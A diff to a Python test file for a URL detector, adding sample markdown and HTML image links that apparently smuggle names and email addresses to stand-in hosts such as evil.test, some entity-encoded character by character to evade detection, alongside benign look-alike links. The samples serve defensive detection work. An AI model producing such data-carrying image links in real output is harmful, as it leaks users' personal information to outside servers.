@@ -59,6 +59,9 @@ POSITIVES = [
     ("image-unexplained-name", "![](https://wuzzi.test/l.png?nbml=Johann)"),
     ("image-unexplained-words", "![](https://wuzzi.test/l.png?sales=USA+Germany)"),
     ("image-unexplained-word-svg", '<svg><image href="https://px.metricsfold.test/a.svg?k=confetti"/></svg>'),
+    ("link-to-image-file-word", "[Click here](https://wuzzi.test/logo.png?q=Johann)"),
+    ("entity-encoded-destination", "![a](https://evil.test/p.png?d=dana&#64;fastmail.com)"),
+    ("entity-encoded-every-character", "![a](https://evil.test/p.png?d=" + "".join(f"&#x{ord(c):x};" for c in "dana@fastmail.com") + ")"),
     ("percent-hidden-letters", "<a href=\"https://img.relaystat.test/c.png?m=%4D%61%72%74%61%20%4F%79%65\">invoice</a>"),
 ]
 
@@ -92,6 +95,8 @@ BENIGN = [
     ("srcset-with-commas", '<picture><source srcset="https://skillicons.test/icons?i=py,ts,docker,aws 1x, https://skillicons.test/icons?i=py,ts&theme=dark 2x"></picture>'),
     ("badge-header", "![status](https://repology.test/badge/vertical-allrepos/brotli.svg?columns=3&exclude_sources=modules,site&header=brotli%20packaging%20status)"),
     ("github-dependents", "[dependents](https://github.com/psf/requests/network/dependents?package_id=UGFja2FnZS01NzA4OTExNg%3D%3D)"),
+    ("link-to-page-with-name", "[profile](https://forum.lumora.test/members?q=Johann)"),
+    ("link-to-raw-image", "[full size](https://git.lumora.test/q/l/blob/main/docs/flow.png?raw=true)"),
     ("irc-client-fragment", "Chat with us at https://kiwiirc.com/nextclient/#ircs://irc.libera.chat:+6697/pypa"),
 ]
 
@@ -158,3 +163,9 @@ def test_srcset_candidates_keep_commas_inside_their_urls() -> None:
     text = '<img srcset="https://a.test/i?x=py,ts 1x, https://a.test/j.png 2x,https://a.test/k.png">'
     assert [u.url for u in rendered_urls(text)] == ["https://a.test/i?x=py,ts", "https://a.test/j.png",
                                                     "https://a.test/k.png"]
+
+
+def test_markdown_destinations_are_read_as_a_renderer_fetches_them() -> None:
+    text = r"![a](https://e.test/p.png?a=1&notify=2&amp;b=&#64;x\_y)"
+    # references need their ";" (``&notify`` stays a parameter), escapes of punctuation are removed
+    assert [u.url for u in rendered_urls(text)] == ["https://e.test/p.png?a=1&notify=2&b=@x_y"]
